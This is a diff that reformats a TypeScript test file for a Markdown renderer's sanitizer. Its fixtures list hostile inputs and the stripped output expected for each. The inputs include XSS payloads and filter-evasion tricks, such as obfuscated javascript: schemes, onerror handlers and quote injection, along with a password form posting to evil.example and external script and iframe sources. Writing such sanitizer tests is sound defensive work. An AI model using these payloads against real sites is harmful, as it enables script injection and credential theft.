@@ -39,11 +39,7 @@ const hostile: Hostile[] = [
   {
     name: 'form posting elsewhere, over several lines',
     markdown: 'Text\n\n<form action="https://evil.example/steal" method="post">\n<input name="password">\n<button>Go</button>\n</form>',
-    refused: [
-      { line: 3, what: 'raw HTML <form> is not published, nor the text in its HTML block' },
-      tag('input', 4),
-      tag('button', 5),
-    ],
+    refused: [{ line: 3, what: 'raw HTML <form> is not published, nor the text in its HTML block' }, tag('input', 4), tag('button', 5)],
     html: '<p>Text</p>',
   },
   { name: 'meta refresh', markdown: '<meta http-equiv="refresh" content="0;url=https://evil.example">', refused: [tag('meta', 1)], html: '' },
@@ -63,7 +59,12 @@ const hostile: Hostile[] = [
     refused: [tag('svg', 3), tag('a', 3), tag('circle', 3)],
     html: '<p>First</p>',
   },
-  { name: 'math with xlink:href', markdown: '<math><mi xlink:href="javascript:alert(1)">click</mi></math>', refused: [tag('math', 1), tag('mi', 1)], html: '<p>click</p>' },
+  {
+    name: 'math with xlink:href',
+    markdown: '<math><mi xlink:href="javascript:alert(1)">click</mi></math>',
+    refused: [tag('math', 1), tag('mi', 1)],
+    html: '<p>click</p>',
+  },
   { name: 'img onerror', markdown: 'Look <img src=x onerror="alert(1)"> here', refused: [tag('img', 1)], text: 'Look here' },
   {
     name: 'div onclick',
@@ -85,12 +86,22 @@ const hostile: Hostile[] = [
   { name: 'javascript: image', markdown: 'A ![x](javascript:alert(1)) B', refused: [image('"javascript:alert(1)"', 1)], html: '<p>A  B</p>' },
   { name: 'entity-encoded scheme', markdown: '[x](&#106;avascript:alert(1))', refused: [link('"javascript:alert(1)"', 1)], html: '<p>x</p>' },
   { name: 'tab inside the scheme', markdown: '[x](<java\tscript:alert(1)>)', refused: [link('"java\\tscript:alert(1)"', 1)], html: '<p>x</p>' },
-  { name: 'newline inside the scheme (as an entity)', markdown: '[x](java&#10;script:alert(1))', refused: [link('"java\\nscript:alert(1)"', 1)], html: '<p>x</p>' },
+  {
+    name: 'newline inside the scheme (as an entity)',
+    markdown: '[x](java&#10;script:alert(1))',
+    refused: [link('"java\\nscript:alert(1)"', 1)],
+    html: '<p>x</p>',
+  },
   { name: 'form feed before the scheme', markdown: '[x](&#12;javascript:alert(1))', refused: [link('"\\fjavascript:alert(1)"', 1)], html: '<p>x</p>' },
   { name: '"/\\t/evil.example" leaves the site', markdown: '[home](/&#9;/evil.example)', refused: [link('"/\\t/evil.example"', 1)], html: '<p>home</p>' },
   { name: '"/\\\\evil.example" leaves the site', markdown: '[home](/\\evil.example)', refused: [link('"/\\\\evil.example"', 1)], html: '<p>home</p>' },
   { name: '"//evil.example" leaves the site', markdown: '[home](//evil.example/path)', refused: [link('"//evil.example/path"', 1)], html: '<p>home</p>' },
-  { name: 'other schemes', markdown: '[a](ftp://evil.example/) [b](file:///etc/passwd)', refused: [link('"ftp://evil.example/"', 1), link('"file:///etc/passwd"', 1)], html: '<p>a b</p>' },
+  {
+    name: 'other schemes',
+    markdown: '[a](ftp://evil.example/) [b](file:///etc/passwd)',
+    refused: [link('"ftp://evil.example/"', 1), link('"file:///etc/passwd"', 1)],
+    html: '<p>a b</p>',
+  },
   {
     name: 'comment hiding a script',
     markdown: 'Text\n\n<!-- <script>alert(1)</script> -->\n\nMore',
@@ -129,7 +140,12 @@ const hostile: Hostile[] = [
   { name: 'unclosed script', markdown: 'Before\n\n<script>\nalert(1)\n\nAfter', refused: [tag('script', 3)], html: '<p>Before</p>' },
   // "<scr" is not a tag, so it stays as text; the script's content goes with the script.
   { name: 'tag split around a tag', markdown: 'a <scr<script>ipt>alert(1)</script> b', refused: [tag('script', 1)], html: '<p>a &#x3C;scr b</p>' },
-  { name: 'script inside a sentence, code and all', markdown: 'Hello <script>alert(1)</script> world', refused: [tag('script', 1)], html: '<p>Hello  world</p>' },
+  {
+    name: 'script inside a sentence, code and all',
+    markdown: 'Hello <script>alert(1)</script> world',
+    refused: [tag('script', 1)],
+    html: '<p>Hello  world</p>',
+  },
   { name: 'style inside a sentence', markdown: 'Hello <style>p { display: none }</style> world', refused: [tag('style', 1)], html: '<p>Hello  world</p>' },
   {
     name: 'template with a script inside a sentence',
@@ -138,14 +154,24 @@ const hostile: Hostile[] = [
     html: '<p>One  two</p>',
   },
   // An unclosed inline script hides the rest of its paragraph, not the next one.
-  { name: 'unclosed inline script', markdown: 'One <script>alert(1)\nstill code\n\nNext paragraph', refused: [tag('script', 1)], html: '<p>One </p><p>Next paragraph</p>' },
+  {
+    name: 'unclosed inline script',
+    markdown: 'One <script>alert(1)\nstill code\n\nNext paragraph',
+    refused: [tag('script', 1)],
+    html: '<p>One </p><p>Next paragraph</p>',
+  },
   { name: 'script in a block quote', markdown: '> Quote\n> <script>alert(1)</script>', refused: [tag('script', 2)], text: 'Quote' },
   { name: 'iframe in a list', markdown: '- one\n- <iframe src="https://evil.example"></iframe>', refused: [tag('iframe', 2)], text: 'one' },
   { name: 'uppercase tag', markdown: '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>', refused: [tag('script', 1)], html: '' },
   // An allowed https link; the quotes are escaped into the address, not into new attributes.
   { name: 'quotes in a link address', markdown: '[x](https://ok.example/"onmouseover="alert(1))', refused: [], text: 'x' },
   // The fence's language becomes a class only when it is a plain word.
-  { name: 'quotes in a code fence language', markdown: '```js"onmouseover="alert(1)\nlet a = 1\n```', refused: [], html: '<pre><code>let a = 1\n</code></pre>' },
+  {
+    name: 'quotes in a code fence language',
+    markdown: '```js"onmouseover="alert(1)\nlet a = 1\n```',
+    refused: [],
+    html: '<pre><code>let a = 1\n</code></pre>',
+  },
 ];
 
 describe('hostile Markdown', () => {
@@ -206,7 +232,10 @@ describe('line numbers', () => {
 });
 
 describe('headings', () => {
-  const levels = (html: string) => parse(html).querySelectorAll('h1, h2, h3, h4, h5, h6').map((h) => `${h.rawTagName} ${h.textContent}`);
+  const levels = (html: string) =>
+    parse(html)
+      .querySelectorAll('h1, h2, h3, h4, h5, h6')
+      .map((h) => `${h.rawTagName} ${h.textContent}`);
 
   it('the highest becomes h2: the page title is the h1', () => {
     expect(levels(renderMarkdown('# Title\n\n## Sub\n\n### Deeper'))).toEqual(['h2 Title', 'h3 Sub', 'h4 Deeper']);
@@ -300,7 +329,12 @@ describe('benign Markdown survives', () => {
 });
 
 describe('the last check on the HTML', () => {
-  const a = (href: string, text: string) => ({ type: 'element' as const, tagName: 'a', properties: { href }, children: [{ type: 'text' as const, value: text }] });
+  const a = (href: string, text: string) => ({
+    type: 'element' as const,
+    tagName: 'a',
+    properties: { href },
+    children: [{ type: 'text' as const, value: text }],
+  });
   const img = (src: string) => ({ type: 'element' as const, tagName: 'img', properties: { src, alt: '' }, children: [] });
 
   it('unwraps links and drops images that leave the allowed addresses, whatever came before', () => {
@@ -311,7 +345,14 @@ describe('the last check on the HTML', () => {
           type: 'element',
           tagName: 'p',
           properties: {},
-          children: [a('javascript:alert(1)', 'one'), a('/\t/evil.example', 'two'), a('/\\evil.example', 'three'), img('data:image/png;base64,AA'), a('/CAP/cx/', 'four'), img('/x.png')],
+          children: [
+            a('javascript:alert(1)', 'one'),
+            a('/\t/evil.example', 'two'),
+            a('/\\evil.example', 'three'),
+            img('data:image/png;base64,AA'),
+            a('/CAP/cx/', 'four'),
+            img('/x.png'),
+          ],
         },
       ],
     };
